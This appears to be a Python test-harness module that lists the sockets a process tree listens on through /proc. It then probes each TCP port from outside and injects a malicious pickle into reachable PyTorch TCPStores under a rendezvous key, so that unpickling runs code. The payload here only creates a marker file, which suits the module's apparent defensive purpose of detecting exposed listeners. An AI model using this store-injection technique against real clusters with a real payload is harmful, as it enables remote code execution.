"""What a process and its descendants listen on, and an attack on it from the network."""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import pickle
import socket
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

from mics.ranks.interfaces import _addresses, is_loopback

_LISTEN = "0A"  # of TCP, net/tcp_states.h
_ACCEPTS = 0x10000  # of a Unix socket, uapi/linux/net.h
KEY = "torch.rendezvous.mics"  # what torch's agent of a run of this name reads and unpickles


@dataclass(frozen=True)
class Listener:
    """A socket on which a process waits for others to connect."""

    pid: int
    kind: str  # tcp or unix
    address: str
    port: int

    @property
    def local(self) -> bool:
        """Whether only this machine can connect."""
        return self.kind == "unix" or is_loopback(self.address)


def descendants(pid: int) -> list[int]:
    """A process, its children, theirs and so on; those that end meanwhile are left out."""
    found = [pid]
    for one in found:
        with contextlib.suppress(OSError):
            for task in Path(f"/proc/{one}/task").iterdir():
                found += map(int, (task / "children").read_text().split())
    return found


def listeners(pid: int) -> set[Listener]:
    """What a process and its descendants listen on, each in its own network namespace."""
    found = set()
    for one in descendants(pid):
        with contextlib.suppress(OSError):
            found |= _of_process(one)
    return found


def _of_process(pid: int) -> set[Listener]:
    inodes = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            inodes.add(str(entry.readlink()))
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            row = line.split()
            if row[3] == _LISTEN and f"socket:[{row[9]}]" in inodes:
                digits, port = row[1].split(":")
                found.add(Listener(pid, "tcp", _address(digits), int(port, 16)))
    for line in Path(f"/proc/{pid}/net/unix").read_text().splitlines()[1:]:
        row = line.split()
        if int(row[3], 16) & _ACCEPTS and f"socket:[{row[6]}]" in inodes:
            found.add(Listener(pid, "unix", row[7] if len(row) > 7 else "", 0))
    return found


def _address(digits: str) -> str:
    """An address as the kernel writes it: words of 4 bytes, each in the order of this machine."""
    words = [bytes.fromhex(digits[at : at + 8])[::-1] for at in range(0, len(digits), 8)]
    return str(ipaddress.ip_address(b"".join(words)))


def outer_addresses() -> list[str]:
    """The addresses at which other machines reach this one."""
    own = [ipaddress.ip_address(address) for _, address in _addresses()]
    return [str(a) for a in own if not a.is_loopback and not a.is_link_local]


class _Touch:
    """Unpickled, it leaves a file: what a stranger's program would do."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.path, "w")


def attack(found: set[Listener], path: Path, key: str = KEY) -> list[str]:
    """Do what a stranger on the network can: knock at every port; put a pickle into every store.

    Returns:
        The addresses and ports that let it in.
    """
    open_ = []
    for port in sorted({one.port for one in found if one.kind == "tcp"}):
        for address in outer_addresses():
            try:
                socket.create_connection((address, port), timeout=2).close()
            except OSError:
                continue
            open_.append(f"{address}:{port}")
            with contextlib.suppress(dist.DistError, RuntimeError):
                store = dist.TCPStore(address, port, is_master=False, timeout=timedelta(seconds=2))
                store.set(key, base64.b64encode(pickle.dumps(_Touch(str(path)))).decode())
    return open_
